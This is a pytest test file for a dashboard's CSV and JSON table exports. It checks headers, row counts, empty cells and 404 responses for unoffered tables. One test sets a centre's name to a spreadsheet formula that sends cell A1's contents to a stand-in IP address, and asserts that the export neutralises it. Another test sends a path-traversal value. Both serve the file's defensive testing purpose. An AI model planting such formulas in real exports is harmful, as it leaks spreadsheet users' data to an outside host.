"""Any table as CSV and JSON: what a spreadsheet and a machine get, and what neither may be made to do."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.api import Centre
from dashboards.board.tables import Column, Table, neutral, to_csv, to_json
from dashboards.board.words import catalogue
from tests.support.board_server import Served

VI = catalogue("vi")
CUT_OFF = "07616-1"
LINE = f"/subjects/line:{CUT_OFF}/a"

OFFERED = [
    pytest.param("/", "centres", 99, id="province"),
    pytest.param("/?state=down", "centres", 2, id="province of one state"),
    pytest.param("/?q=yen+dinh", "centres", 1, id="province searched without tone marks"),
    pytest.param(f"/centres/{CUT_OFF}", "lines", 2, id="lines of a centre"),
    pytest.param(f"/centres/{CUT_OFF}", "observations", 4, id="observations of a centre"),
    pytest.param(LINE, "observations", 1, id="observations of a subject"),
    pytest.param(LINE, "flips", 4, id="flips"),
    pytest.param("/suite", "agents", 99, id="agents"),
    pytest.param("/suite", "ledger", 20, id="ledger"),
    pytest.param("/fleet", "fleet", 99, id="fleet"),
]


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


def address(path: str, table: str, form: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}table={table}&format={form}"


@pytest.mark.parametrize(("path", "table", "count"), OFFERED)
def test_a_table_is_the_same_in_both_forms(many: Served, path: str, table: str, count: int) -> None:
    sheet = many.page(address(path, table, "csv"))
    assert sheet.headers["content-type"].startswith("text/csv")
    assert sheet.headers["content-disposition"] == f'attachment; filename="motcua-{table}.csv"'
    assert sheet.content.startswith(b"\xef\xbb\xbf")
    head, *rows = rows_of(sheet.content.decode())
    document = many.page(address(path, table, "json")).json()
    assert (len(rows), len(document["rows"]), document["table"]) == (count, count, table)
    assert len(head) == len(document["columns"]) == len(set(head))
    assert all(len(row) == len(head) for row in rows)


@pytest.mark.parametrize(("path", "table", "_count"), OFFERED)
def test_every_table_has_its_links_and_their_explanation(many: Served, path: str, table: str, _count: int) -> None:
    page = many.page(path).text
    links = [link.replace("&amp;", "&") for link in re.findall(r'href="([^"]*format=(?:csv|json)[^"]*)"', page)]
    for form in ("csv", "json"):
        mine = [link for link in links if f"table={table}" in link and f"format={form}" in link]
        assert len(mine) == 1
        assert many.page(mine[0]).status_code == 200
    assert 'id="take"' in page


def test_the_words_are_the_readers_and_the_names_the_machines(many: Served) -> None:
    sheet = rows_of(many.page("/?format=csv").content.decode())
    assert sheet[0][:3] == ["Mã trung tâm", "Tên", "Tình trạng"]
    assert sheet[1] == [
        "07616-1", "Xã Tây Yên Tử", "mất", "không đường truyền nào dùng được", "mất đường truyền",
        "2026-11-21 08:41:05", "2026-11-21 09:14:01",
    ]  # fmt: skip
    assert rows_of(many.page("/?format=csv", lang="en").content.decode())[0][1] == "Name"
    first = many.page("/?format=json").json()["rows"][0]
    assert (first["state"], first["since"]) == ("down", "2026-11-21T08:41:05.000+07:00")


def test_what_was_not_measured_is_an_empty_cell_and_never_a_zero(many: Served) -> None:
    row = many.page(f"/centres/{CUT_OFF}?table=lines&format=json").json()["rows"][0]
    assert (row["loss_ratio"], row["rtt_s"]) == (1.0, None)
    assert rows_of(many.page(f"/centres/{CUT_OFF}?table=lines&format=csv").content.decode())[1][9] == ""


def test_a_name_that_is_a_formula_stays_a_name(many: Served) -> None:
    evil = '=HYPERLINK("http://192.0.2.1/?"&A1;"xem")'
    place = next(n for n, centre in enumerate(many.world.listed_centres) if centre.key == CUT_OFF)
    many.world.listed_centres[place] = Centre(CUT_OFF, evil, "")
    many.world.touch()
    assert rows_of(many.page("/?format=csv").content.decode())[1][1] == "'" + evil


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("format=xlsx", id="another format"),
        pytest.param("format=csv&table=tokens", id="another table"),
        pytest.param("format=", id="no format"),
        pytest.param("format=csv&table=../app", id="a path"),
    ],
)
def test_what_no_page_offers_is_said_so(many: Served, query: str) -> None:
    answer = many.page(f"/?{query}")
    assert answer.status_code == 404
    assert "không có bảng đó" in answer.text


@pytest.mark.parametrize("path", ["/centres/99999-9", "/subjects/line:99999-9/a"])
def test_a_table_of_nothing_is_not_found(many: Served, path: str) -> None:
    assert many.page(f"{path}?format=csv").status_code == 404


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=60))
def test_no_text_becomes_a_formula_or_breaks_a_row(text: str) -> None:
    table = Table("t", (Column("name"), Column("value", "number")), [(text, 1.5)], None)
    rows = rows_of(to_csv(table, VI))
    assert len(rows) == 2
    shown = rows[1][0]
    assert shown == neutral(text)
    assert not shown.lstrip("\u200b\ufeff \u00a0").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[1][1] == "1.5"


def test_numbers_keep_their_sign_and_infinity_is_no_number() -> None:
    table = Table("t", (Column("value", "number"),), [(-3.5,), (float("inf"),), (None,)], 0)
    assert rows_of(to_csv(table, VI))[1:] == [["-3.5"], [""], [""]]
    assert '"rows":[{"value":-3.5},{"value":null},{"value":null}]' in to_json(table)
